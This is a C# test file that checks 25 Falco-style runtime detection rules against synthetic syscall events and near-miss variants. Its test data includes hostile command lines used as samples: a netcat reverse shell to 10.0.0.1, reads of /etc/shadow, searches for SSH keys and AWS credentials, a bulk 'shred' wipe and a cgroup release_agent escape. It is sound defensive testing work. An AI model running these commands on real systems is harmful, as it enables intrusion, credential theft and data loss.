using Kite.Agent.Fields;
using Kite.Rules.Evaluation;
using Kite.Rules.Fields;
using Kite.Rules.Fields.Synthetic;
using Kite.Rules.Loading;
using Kite.TestUtilities;

namespace Kite.Agent.Tests.Rules;

/// <summary>
/// For each of the 25 rules of the upstream falco_rules.yaml: one synthetic event that makes it fire and
/// one near miss (one field changed) that does not, evaluated through the compiled rule set.
/// </summary>
public class StableRulesGoldenTests
{
    private static readonly Lazy<RuleSet<SyntheticFieldSource>> s_rules = new(() =>
    {
        // The API server's service name does not resolve on a test machine: pin it, as an operator would
        // on a node whose resolver cannot see cluster DNS. fd.sip.name compares through fd.sip.
        SyscallFieldCatalog.Instance.HostNames.Pin("kubernetes.default.svc.cluster.local", System.Net.IPAddress.Parse("10.96.0.1"));
        LoadResult result = UpstreamRules.Load(UpstreamRules.Stable);
        Assert.False(result.HasErrors);
        return result.Compile<SyntheticFieldSource>(SyscallFieldCatalog.Source, options: new RuleSetOptions { Matching = RuleMatching.All });
    });

    private const string Container = "container.id=3ad7b26ded6d;container.image.repository=docker.io/library/alpine;proc.pname=containerd-shim";

    public static TheoryData<string, string, string, string> Cases => new()
    {
        // rule, event type, firing event fields, near-miss override
        { "Directory traversal monitored file read", "openat", "evt.is_open_read=true;fd.typechar=f;fd.num=3;fd.name=/etc/shadow;fd.nameraw=/tmp/../../etc/shadow;proc.pname=python3", "fd.nameraw=/etc/shadow" },
        { "Read sensitive file trusted after startup", "openat", "evt.is_open_read=true;fd.typechar=f;fd.num=3;fd.name=/etc/shadow;fd.directory=/etc;proc.name=nginx;proc.duration=10000000000", "proc.duration=1000000000" },
        { "Read sensitive file untrusted", "openat", "evt.is_open_read=true;fd.typechar=f;fd.num=3;fd.name=/etc/shadow;fd.directory=/etc;proc.name=cat;proc.pname=bash;proc.cmdline=cat /etc/shadow;proc.aname=cat|bash|sshd", "proc.name=passwd" },
        { "Run shell untrusted", "execve", "proc.name=bash;proc.pname=nginx;proc.cmdline=bash -c id;proc.args=-c id;proc.aname=bash|nginx|systemd", "proc.aname=bash|sshd|systemd" },
        { "System user interactive", "execve", "user.name=daemon;proc.name=bash;proc.aname=bash|sshd|systemd", "user.name=alice" },
        { "Terminal shell in container", "execve", Container + ";proc.name=bash;proc.tty=34816", "proc.tty=0" },
        { "Contact K8S API Server From Container", "connect", Container + ";fd.typechar=4;fd.sip=10.96.0.1", "fd.sip=10.96.0.2" },
        { "Netcat Remote Code Execution in Container", "execve", Container + ";proc.name=nc;proc.cmdline=nc -e /bin/sh 10.0.0.1 4444;proc.args=-e /bin/sh 10.0.0.1 4444", "proc.cmdline=nc 10.0.0.1 4444" },
        { "Search Private Keys or Passwords", "execve", "proc.name=find;proc.args=/ -name id_rsa", "proc.args=/ -name notes.txt" },
        { "Clear Log Activities", "openat", "evt.is_open_write=true;fd.typechar=f;fd.num=3;fd.name=/var/log/syslog;fd.directory=/var/log;fd.filename=syslog;evt.arg.flags=O_WRONLY|O_TRUNC;proc.name=bash", "evt.arg.flags=O_WRONLY|O_APPEND" },
        { "Remove Bulk Data from Disk", "execve", "proc.name=shred;proc.args=-u /data/db", "proc.name=ls" },
        { "Create Symlink Over Sensitive Files", "symlinkat", "evt.arg.target=/etc;evt.arg.linkpath=/tmp/etc", "evt.arg.target=/tmp/x" },
        { "Create Hardlink Over Sensitive Files", "linkat", "evt.arg.oldpath=/etc/shadow;evt.arg.newpath=/tmp/s", "evt.arg.oldpath=/tmp/a" },
        { "Packet socket created in container", "socket", Container + ";evt.arg.domain=AF_PACKET;proc.name=tcpdump", "evt.arg.domain=AF_INET" },
        { "Redirect STDOUT/STDIN to Network Connection in Container", "dup2", Container + ";evt.rawres=1;fd.type=ipv4", "fd.type=file" },
        { "Linux Kernel Module Injection Detected", "init_module", Container + ";thread.cap_effective=CAP_SYS_MODULE CAP_NET_ADMIN", "thread.cap_effective=CAP_CHOWN" },
        { "Debugfs Launched in Privileged Container", "execve", Container + ";container.privileged=true;proc.name=debugfs", "container.privileged=false" },
        { "Detect release_agent File Container Escapes", "openat", Container + ";evt.is_open_write=true;fd.typechar=f;fd.num=3;fd.name=/sys/fs/cgroup/x/release_agent;user.uid=0;thread.cap_effective=CAP_SYS_ADMIN CAP_DAC_OVERRIDE", "thread.cap_effective=CAP_DAC_OVERRIDE" },
        { "PTRACE attached to process", "ptrace", "evt.arg.request=PTRACE_ATTACH;proc.name=gdb", "evt.arg.request=PTRACE_PEEKDATA" },
        { "PTRACE anti-debug attempt", "ptrace", "evt.arg.request=PTRACE_TRACEME;proc.name=malware", "proc.name=<NA>" },
        { "Find AWS Credentials", "execve", "proc.name=find;proc.args=/home -path */.aws/credentials", "proc.args=/home -name notes" },
        { "Execution from /dev/shm", "execve", "proc.name=evil;proc.exe=/dev/shm/evil;proc.cwd=/root;proc.args=-x", "proc.exe=/usr/bin/evil" },
        { "Drop and execute new binary in container", "execve", Container + ";proc.name=evil;proc.is_exe_upper_layer=true", "proc.is_exe_upper_layer=false" },
        { "Disallowed SSH Connection Non Standard Port", "connect", "proc.exe=/usr/bin/ssh;fd.l4proto=tcp;fd.typechar=4;fd.ip=192.168.1.5|8.8.8.8;fd.net=192.168.1.5|8.8.8.8;fd.snet=8.8.8.8;evt.rawres=0;fd.sport=443", "fd.sport=22" },
        { "Fileless execution via memfd_create", "execve", "proc.name=evil;proc.pname=bash;proc.exepath=memfd:x;proc.exe=/proc/self/fd/3;proc.is_exe_from_memfd=true", "proc.name=runc" },
    };

    [RequiresSharedCompatTheory]
    [MemberData(nameof(Cases))]
    public void RuleFiresOnItsEventAndNotOnTheNearMiss(string rule, string type, string fields, string nearMiss)
    {
        RuleSet<SyntheticFieldSource> set = s_rules.Value;
        SyntheticEvent firing = Build(type, fields);
        var source = new SyntheticFieldSource(firing);
        Assert.True(set.Matches(rule, ref source), $"'{rule}' should fire on {firing}");

        // The rule set's own dispatch (event-type bucket, all matching rules) must agree.
        var matches = new CompiledRule?[set.Rules.Count];
        int n = set.Evaluate(ref source, matches);
        Assert.Contains(rule, matches.Take(n).Select(m => m!.Name));

        SyntheticEvent missed = Build(type, fields + ";" + nearMiss);
        var missedSource = new SyntheticFieldSource(missed);
        Assert.False(set.Matches(rule, ref missedSource), $"'{rule}' should not fire on {missed}");
    }

    [RequiresSharedCompatFact]
    public void EveryStableRuleHasAGoldenCase()
    {
        var covered = Cases.Select(c => (string)c[0]).ToHashSet();
        Assert.Equal(25, covered.Count);
        Assert.All(s_rules.Value.Rules, r => Assert.Contains(r.Name, covered));
    }

    /// <summary>A syscall event with a plain host process, then `field=value` pairs separated by `;` (later ones win).</summary>
    internal static SyntheticEvent Build(string type, string fields)
    {
        var values = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            ["evt.num"] = "1",
            ["proc.name"] = "app",
            ["proc.pname"] = "bash",
            ["proc.exe"] = "/usr/bin/app",
            ["proc.exepath"] = "/usr/bin/app",
            ["proc.cmdline"] = "app",
            ["proc.args"] = "",
            ["proc.cwd"] = "/",
            ["proc.tty"] = "0",
            ["user.name"] = "root",
            ["user.uid"] = "0",
            ["container.id"] = "host",
        };
        foreach (string pair in fields.Split(';', StringSplitOptions.RemoveEmptyEntries))
        {
            int eq = pair.IndexOf('=');
            values[pair[..eq]] = pair[(eq + 1)..];
        }
        var ev = new SyntheticEvent(SyscallFieldCatalog.Instance).WithEventType(type);
        foreach (var (field, value) in values)
        {
            if (field is "proc.aname")
                ev.SetLineage(field, value.Split('|'));
            else if (field is "fd.ip" or "fd.net" or "fd.port")
                ev.SetValues(field, value.Split('|'));
            else
                ev.Set(field, value);
        }
        return ev;
    }
}
